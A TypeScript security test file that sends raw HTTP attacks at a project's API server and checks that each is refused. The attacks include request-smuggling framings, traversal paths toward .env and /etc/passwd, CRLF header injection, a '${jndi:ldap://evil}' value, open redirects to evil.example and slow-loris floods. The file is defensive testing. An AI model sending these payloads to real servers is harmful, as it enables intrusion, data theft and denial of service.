/** Attacks by bytes, on the API and on the server of the other roles: each is tried, and found closed. */

import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { t as file, type Test, test } from 'tap'
import type { Route } from '#lib/http/http'
import { openNode } from '#lib/http/node'
import { testApi, testKey } from '#test/api'
import { openServer, RawClient, type RawAnswer } from '#test/http'
import { temporaryFolder } from '#test/start'

file.setTimeout(300_000)

const key = `X-API-Key: ${testKey}\r\n`
const routes: Route[] = [
  { method: 'POST', path: '/telemetry', handle: (_, body) => ({ json: body.length }) },
  { method: 'GET', path: '/health', open: true, handle: () => ({ json: { status: 'ok' } }) },
]

/** Both servers of Penstock, as ports. */
const servers = {
  api: async (t: Test) => (await testApi(t)).port,
  'lib/http': async (t: Test) => (await openServer(t, openNode, routes)).port,
}

/** Everything that comes back for these bytes until the server ends the connection. */
async function allAnswers(t: Test, port: number, bytes: string): Promise<string> {
  const client = new RawClient(t, port)
  const pieces: Buffer[] = []
  client.socket.on('data', (piece) => pieces.push(piece))
  await client.write(bytes)
  await client.closed
  return Buffer.concat(pieces).toString('latin1')
}

async function ask(t: Test, port: number, bytes: string): Promise<RawAnswer> {
  const client = new RawClient(t, port)
  await client.write(bytes)
  return client.answer()
}

const smuggled = `GET /health HTTP/1.1\r\nHost: t\r\n\r\n`
const chunks = `0\r\n\r\n${smuggled}`
const framings: Readonly<Record<string, string>> = {
  'a length and chunks (CL.TE)': `Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}`,
  'chunks and a length (TE.CL)': `Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n${chunks}`,
  'two lengths': `Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}${smuggled}`,
  'two lengths in one line': `Content-Length: 2, 40\r\n\r\n{}${smuggled}`,
  'a length with a sign': `Content-Length: +2\r\n\r\n{}${smuggled}`,
  'a length in hexadecimal digits': `Content-Length: 0x2\r\n\r\n{}${smuggled}`,
  'a blank before the colon': `Content-Length : 2\r\n\r\n{}${smuggled}`,
  'an encoding with something before it': `Transfer-Encoding: xchunked\r\n\r\n${chunks}`,
  'chunks that are not the last encoding': `Transfer-Encoding: chunked, identity\r\n\r\n${chunks}`,
  'a folded line': `X-Fold: a\r\n Content-Length: 2\r\n\tTransfer-Encoding: chunked\r\n\r\n${smuggled}`,
  'a line that ends in LF alone': `Transfer-Encoding: chunked\nX: y\r\n\r\n${chunks}`,
  'a chunk of a negative size': `Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n${chunks}`,
  'a chunk whose size has a tail': `Transfer-Encoding: chunked\r\n\r\n2 x\r\n{}\r\n${chunks}`,
  'a NUL in a value': `X-Nul: a\0b\r\nContent-Length: 2\r\n\r\n{}${smuggled}`,
}

for (const [server, open] of Object.entries(servers)) {
  test(`${server}: a request hidden in another by its framing is not answered`, async (t) => {
    const port = await open(t)
    for (const [name, framing] of Object.entries(framings)) {
      const head = `POST /telemetry HTTP/1.1\r\nHost: t\r\n${key}Content-Type: application/json\r\n`
      const text = await allAnswers(t, port, head + framing)
      const statuses = [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map(([, status]) => status)
      t.match(statuses.at(-1) ?? 'cut', /^(400|cut)$/, name)
      t.ok(statuses.length <= 1, `${name}: ${statuses.join(', ')}`)
      t.notMatch(text, /"status":"ok"/, `${name}: and what was hidden is not`)
    }
  })

  test(`${server}: what is too long is refused, and not read to its end`, async (t) => {
    const port = await open(t)
    const long = 'a'.repeat(20_000)
    t.match(await ask(t, port, `GET /health HTTP/1.1\r\nHost: t\r\nX-Long: ${long}\r\n\r\n`), { status: 431 })
    t.match(await ask(t, port, `GET /${long} HTTP/1.1\r\nHost: t\r\n\r\n`), { status: 431 })
    const many = Array.from({ length: 4_000 }, (_, index) => `X-${index}: 1\r\n`).join('')
    t.match(await ask(t, port, `GET /health HTTP/1.1\r\nHost: t\r\n${many}\r\n`), { status: 431 })
    const head = `POST /telemetry HTTP/1.1\r\nHost: t\r\n${key}Content-Type: application/json\r\n`
    const announced = await ask(t, port, `${head}Content-Length: 99999999999\r\n\r\n{`)
    t.match(announced, { status: 413, headers: new Map([['content-type', 'application/problem+json']]) })
    const megabyte = `${(2 ** 20).toString(16)}\r\n${' '.repeat(2 ** 20)}\r\n`
    const chunked = `${head}Transfer-Encoding: chunked\r\n\r\n${megabyte.repeat(5)}`
    t.match(await ask(t, port, chunked), { status: 413 })
  })
}

test('slow loris: heads and bodies in drops, and silence, are cut; meanwhile others are answered', async (t) => {
  const limits = { headMs: 400, requestMs: 700, lookEveryMs: 100 }
  const api = await testApi(t, { limits })
  const server = await openServer(t, openNode, routes, { limits: { requestMs: 400 } })
  for (const port of [api.port, server.port]) {
    const open = (bytes: string) => {
      const client = new RawClient(t, port)
      if (bytes !== '') void client.write(bytes)
      const drops = setInterval(() => void client.write(bytes === '' ? '' : 'x'), 50)
      return client.closed.then(() => clearInterval(drops))
    }
    const head = `POST /telemetry HTTP/1.1\r\nHost: t\r\n${key}`
    const slow = ['', head, `${head}Content-Type: application/json\r\nContent-Length: 900000\r\n\r\n`]
    const cut = Promise.all(Array.from({ length: 60 }, (_, index) => open(slow[index % 3] as string)))
    t.match(await ask(t, port, smuggled), { status: 200 })
    await cut
    t.pass('all are cut')
  }
})

test('a client that does not take its answer is cut', async (t) => {
  const api = await testApi(t, { limits: { silentMs: 300 } })
  const client = new RawClient(t, api.port)
  client.socket.unpipe()
  client.socket.pause()
  // More than the buffers of the kernel hold: 1.4 MB each.
  const asked = `GET /swagger/swagger-ui-bundle.js HTTP/1.1\r\nHost: t\r\n\r\n`.repeat(50)
  await client.write(asked)
  const sockets = () => new Promise((resolve) => api.server.getConnections((_, count) => resolve(count)))
  while ((await sockets()) !== 0) await new Promise((resolve) => setTimeout(resolve, 50))
  t.pass('the server has let go of it')
})

test('a file beside those that are served cannot be had, however its path is written', async (t) => {
  const dashboardDir = join(temporaryFolder(t), 'dist')
  mkdirSync(join(dashboardDir, 'assets'), { recursive: true })
  for (const path of ['index.html', 'assets/a.js']) writeFileSync(join(dashboardDir, path), 'page')
  for (const path of ['../secret', '.env', 'assets/.env']) writeFileSync(join(dashboardDir, path), 'SECRET')
  const { port } = await testApi(t, { dashboardDir })
  const up = ['..', '%2e%2e', '.%2e', '%252e%252e', '..%00', '..;', '%c0%ae%c0%ae', '..%5c']
  const paths = [
    ...up.flatMap((dots) => [`/${dots}/secret`, `/assets/${dots}/${dots}/secret`, `/swagger/${dots}/package.json`]),
    '/..%2fsecret',
    '/assets/..%2f..%2fsecret',
    '/assets%2f..%2f..%2fsecret',
    '/..%5csecret',
    '/.env',
    '/assets/.env',
    '//secret',
    '/./../secret',
    '/assets/a.js/../../../secret',
    '/swagger//etc/passwd',
    '/swagger/%2fetc%2fpasswd',
    '/swagger/swagger-ui.css%00.html',
    '/swagger/swagger-ui.css/',
    '/swagger/swagger-ui-bundle.js.map',
    'http://t/../secret',
  ]
  const client = new RawClient(t, port)
  for (const path of paths) {
    await client.send('GET', path)
    const { status, body } = await client.answer()
    t.ok([400, 401, 404].includes(status), `${path}: ${status}`)
    t.notMatch(body, /SECRET|root:|"name":/, path)
  }
})

test('header injection: what a client sends comes back as no header of its own', async (t) => {
  const { port } = await testApi(t)
  const client = new RawClient(t, port)
  const ids = ['a%0d%0aSet-Cookie: x=1', 'a b', 'a"b', '<script>', 'é', 'a'.repeat(129), '${jndi:ldap://evil}', '']
  for (const id of ids) {
    await client.send('GET', '/health', { 'X-Request-Id': id })
    const { headers } = await client.answer()
    t.match(headers.get('x-request-id'), /^[\w.:-]{1,128}$/, `instead of ${id}`)
    t.not(headers.get('x-request-id'), id)
  }
  const crlf = '%0d%0aSet-Cookie:%20x=1%0d%0a'
  const paths = ['/swagger', '/api/v1/gpus/', '/api/v1/gpus?host=', '/api/v1/gpus?', '/'].map((path) => path + crlf)
  for (const path of paths) {
    await client.send('GET', path, { 'X-API-Key': testKey })
    const { headers } = await client.answer()
    t.notOk(headers.has('set-cookie'), path)
  }
  t.match(await ask(t, port, `GET /health HTTP/1.1\r\nHost: t\r\nX-Request-Id: a\rSet-Cookie: x\r\n\r\n`), {
    status: 400,
  })
})

test('no path leads to another host, and nobody is sent anywhere but to /swagger/', async (t) => {
  const { port } = await testApi(t)
  const client = new RawClient(t, port)
  const evil = ['//evil.example', '//evil.example/swagger', '/\\evil.example', '///evil.example/..', '/%5cevil.example']
  for (const path of [...evil, '/swagger', '/swagger?next=//evil.example', 'http://evil.example/swagger']) {
    await client.send('GET', path, { 'X-Forwarded-Host': 'evil.example' })
    const { headers } = await client.answer()
    t.match(headers.get('location') ?? '/swagger/', /^\/swagger\/$/, path)
  }
})

test('TRACE echoes nothing, CONNECT opens nothing, and no header changes the method or the path', async (t) => {
  const { port } = await testApi(t)
  const traced = await ask(t, port, `TRACE / HTTP/1.1\r\nHost: t\r\n${key}\r\n`)
  t.notMatch(traced.body, testKey)
  t.not(traced.status, 200)
  t.notMatch(await allAnswers(t, port, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n'), / 200 /)
  const client = new RawClient(t, port)
  const names = ['X-Original-URL', 'X-Rewrite-URL', 'X-Forwarded-Prefix', 'X-HTTP-Method-Override']
  for (const name of names) {
    await client.send('GET', '/health', { [name]: name.endsWith('Override') ? 'DELETE' : '/metrics' })
    t.match(await client.answer(), { status: 200, body: /"status":"ok"/ }, name)
  }
})
